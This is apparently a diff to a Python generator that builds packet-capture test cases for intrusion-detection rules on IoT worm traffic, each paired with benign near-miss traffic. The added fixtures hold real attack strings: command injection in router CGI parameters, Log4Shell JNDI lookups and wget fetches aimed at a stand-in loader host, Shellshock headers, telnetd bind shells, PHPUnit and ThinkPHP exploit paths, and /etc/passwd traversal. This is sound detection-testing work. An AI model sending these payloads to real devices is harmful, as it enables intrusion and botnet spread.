@@ -28,7 +28,7 @@ from .wire import (
 )
 
 TELNET = 23
-OURS = range(1945001, 1945055)
+OURS = range(1945001, 1945071)
 LOADER = "http://198.51.100.7/bins"
 
 TYPED = {  # sid: lines typed into a shell, near misses
@@ -69,7 +69,41 @@ ASKED = {  # sid: (request line, headers, body)
     1945043: ("GET /x/../../../../etc/passwd", [], ""),
     1945044: ("GET /b/d.arm7", [], ""),
     1945045: ("GET /bins.sh", [], ""),
+    1945055: ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat+/etc/passwd", [], ""),
+    1945056: ("GET /diag?host=10.10.20.1|/bin/ls", [], ""),
+    1945057: ("GET /diag?host=`telnetd+-l/bin/sh`", [], ""),
+    1945058: ("GET /set.cgi?pwd=$(nc+198.51.100.7+99)", [], ""),
+    1945059: ("GET /language/Swedish${IFS}&&ls${IFS}/x", [], ""),
+    1945060: ("POST /forms/net_Web_pingtest", [], "srvName=1.1.1.1;/bin/id;"),
+    1945061: ("POST /login", [], "username=${jndi:ldap://198.51.100.7/a}"),
+    1945062: ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", [], "<?php 1;"),
+    1945063: ("GET /?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", [], ""),
+    1945064: ("POST /wbm/php/execute.php", [], '{"aDeviceParams":{"0":{"name":"x;id"}}}'),
+    1945065: ("POST /goform/formSysCmd", [], "sysCmd=ls&apply=Apply"),
+    1945066: ("POST /command.php", [], "cmd=ls"),
+    1945067: ("GET /console/css/%252e%252e%252fconsole.portal", [], ""),
+    1945068: ("GET /cgi-bin/nas_sharing.cgi?user=a&cmd=15&system=aWQ=", [], ""),
 }
+AGAIN: list[tuple[int, tuple[str, list[str], str]]] = [  # other ways of the same
+    (1945026, ("GET /cgi-bin/;wget$IFS-O$IFS/tmp/x$IFS", [], "")),
+    (1945027, ("POST /d", [], 'addr="1.1.1.1+`wget+http://198.51.100.7/b`"')),
+    (1945027, ("POST /d", [], '<NTP Server="$(wget http://198.51.100.7/l)"/>')),
+    (1945040, ("GET /", ["Referer: () { ignored; }; echo; /bin/id"], "")),
+    (1945041, ("GET /", ["X-Forwarded-For: ${${lower:j}ndi:ldap://198.51.100.7/a}"], "")),
+    (1945042, ("GET /?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", [], "")),
+    (1945043, ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", [], "")),
+    (1945055, ("GET /forms/net_WebPingGetValue?host=127.0.0.1;id", [], "")),
+    (1945058, ("GET /x?brightness=$(echo%20a)", [], "")),
+    (1945060, ("POST /diag.cgi", [], "host=`telnetd -l /bin/sh -p 4444`")),
+    (1945060, ("POST /diag.cgi", [], "k=1&uamip=1.1.1.1%3Bid")),
+    (1945060, ("POST /api", [], '{"host": "10.10.20.1|id"}')),
+    (1945061, ("POST /", [], '{"a":"${${::-j}ndi:ldap://198.51.100.7/a}"}')),
+    (
+        1945064,
+        ("POST /wbm/plugins/wbm-legal-information/x/licenses.php", [], '{"package":";id;#"}'),
+    ),
+]
+TEXT = "PROGRAM x\nVAR a:INT; END_VAR\n(* old way; wget http://10.10.20.1/a *)\nEND_PROGRAM"
 NOT_ASKED = [
     ("GET /", ["User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)"], ""),
     ("POST /UD/act?1", [], "<NewNTPServer1>10.10.20.1</NewNTPServer1>"),
@@ -90,6 +124,29 @@ NOT_ASKED = [
     ("GET /a/../b/index.html", [], ""),
     ("GET /d.army", [], ""),
     ("GET /manual.sh.txt", [], ""),
+    ("POST /upload", ["Content-Type: text/plain"], TEXT),
+    ("POST /upload", ["Content-Type: text/plain"], "a=1 ; wget http://10.10.20.1/a"),
+    (
+        "POST /log",
+        [],
+        "note=pump 2; id 44 replaced; cat food | sh sensor ok; wget http://10.1.1.1/",
+    ),
+    ("POST /note", [], '{"text":"valve 3; reboot done; ls checked; wget http://10.10.20.1/a"}'),
+    ("POST /query", [], '{"query":"SELECT * FROM t WHERE id=1; -- wget","x":"$(pump1)"}'),
+    ("POST /report;jsessionid=ABCDEF01", [], "from=2024-01-01;to=2024-02-01"),
+    ("GET /hist?tags=A|B|id&from=2024;to=2025&fn=$(avg)", [], ""),
+    ("GET /rows?cols=name;id;status&other=a|id|b&sort=`id2`", [], ""),
+    ("GET /js/app.js?v=1.0;x=$(document)", [], ""),
+    ("GET /page?next=cat/index&wifset=1&IFSET=2", [], ""),
+    ("POST /tmpl", [], "text=${name} and ${value}"),
+    ("POST /wbm/php/execute.php", [], '{"aDeviceParams":{"0":{"name":"get_typelabel"}}}'),
+    ("GET /goform/formSysCmdHelp", [], ""),
+    ("POST /command.php", [], "value=ls"),
+    ("GET /vendor/phpunit/readme.txt", [], ""),
+    ("GET /?s=index/invokefunction", [], ""),
+    ("GET /a%252eb%252e.html", [], ""),
+    ("GET /cgi-bin/nas_sharing.cgi?page=1", [], ""),
+    ("GET /", ["Referer: http://10.10.20.1/f() {}"], ""),
 ]
 
 
@@ -181,6 +238,17 @@ def shells() -> None:
     for number, (sid, (line, _)) in enumerate(TYPED.items(), 1):
         packets = tcp(ATTACKER, CONTROLLER, TELNET, typed(line))
         case(f"iot_spread-typed-{number:02}", f"Typed: {line.split()[0]}.", packets, {sid: 1})
+    for sid in (1945010, 1945011, 1945012, 1945020, 1945022):
+        said = [(C, TYPED[sid][0].replace("\r\n", "\n").replace("; ", "\n").encode() + b"\n")]
+        packets = tcp(ATTACKER, CONTROLLER, TELNET, said)
+        case(f"iot_spread-typed-lf-{sid - 1945000}", "Lines end with LF.", packets, {sid: 1})
+    worm = [(S, b"# "), (C, b"/bin/busybox KDVRX\r\n"), (S, b"KDVRX: applet not found\r\n# ")]
+    packets = tcp(ATTACKER, CONTROLLER, TELNET, worm, midstream=True)
+    text = "busybox, joined at the device's packet."
+    case("iot_spread-busybox-midstream-server", text, packets, {1945010: 1})
+    near = [(S, b"# "), (C, TYPED[1945010][1].encode() + b"\r\n")]
+    packets = tcp(ENGINEER, CONTROLLER, TELNET, near, midstream=True)
+    case("iot_spread-midstream-server-not", "Another applet, joined.", packets, silent=OURS)
     packets = tcp(ENGINEER, CONTROLLER, TELNET, typed(*(near for _, near in TYPED.values())))
     case("iot_spread-typed-not", "Commands of a day's work.", packets, silent=OURS)
     echoed = [(S, line.encode() + b"\r\n") for line, _ in TYPED.values()]
@@ -213,6 +281,12 @@ def requests() -> None:
         packets = tcp(ATTACKER, CONTROLLER, 80, asked(*request))
         text = f"{request[0].split('?')[0]}"
         case(f"iot_spread-asked-{number:02}", text, packets, {sid: 1})
+    for number, (sid, request) in enumerate(AGAIN, 1):
+        packets = tcp(ATTACKER, CONTROLLER, 80, asked(*request))
+        case(f"iot_spread-again-{number:02}", f"{request[0][:60]}", packets, {sid: 1})
+    for port in (443, 7001, 10000):
+        packets = tcp(ATTACKER, CONTROLLER, port, asked(*ASKED[1945030]))
+        case(f"iot_spread-port-{port}", f"In clear on {port}.", packets, {1945030: 1})
     flows = [
         tcp(ENGINEER, CONTROLLER, 80, asked(*request), sport=42000 + n, start=n)
         for n, request in enumerate(NOT_ASKED)
@@ -249,6 +323,17 @@ def channels() -> None:
     for number, line in enumerate((b"NICK x\r\nUSER x x x :x\r\n", b"GET / HTTP/1.0\r\n\r\n")):
         packets = tcp(CONTROLLER, "198.51.100.7", 6667, [(C, line)])
         case(f"iot_spread-irc-{number}", "IRC, or not.", packets, {1945052: 1 - number})
+    install = bytes.fromhex("0000000100000001000000040000000800000001") + bytes(4)
+    debug = bytes.fromhex("1a2b3c4d00000000000000025555555500000001") + bytes(44)
+    answer = bytes.fromhex("1a2b3c4d00000001") + bytes(56)
+    packets = tcp(ATTACKER, CONTROLLER, 4786, [(C, install)])
+    case("iot_spread-smart-install", "A switch is asked for.", packets, {1945069: 1})
+    packets = tcp(ENGINEER, CONTROLLER, 4786, [(S, install), (C, b"\0\0\0\2" + install[4:])])
+    case("iot_spread-smart-install-not", "A reply; another version.", packets, silent=OURS)
+    packets = udp(ATTACKER, CONTROLLER, 17185, [(C, debug), (S, answer)])
+    case("iot_spread-debug-agent", "The debug agent answers.", packets, {1945070: 1})
+    packets = udp(ENGINEER, CONTROLLER, 17185, [(C, debug), (S, b"other" + bytes(60))])
+    case("iot_spread-debug-agent-not", "It does not.", packets, silent=OURS)
     poll = [
         (C, bytes.fromhex("000100000006010300000002")),
         (S, bytes.fromhex("000100000007010304000a000b")),
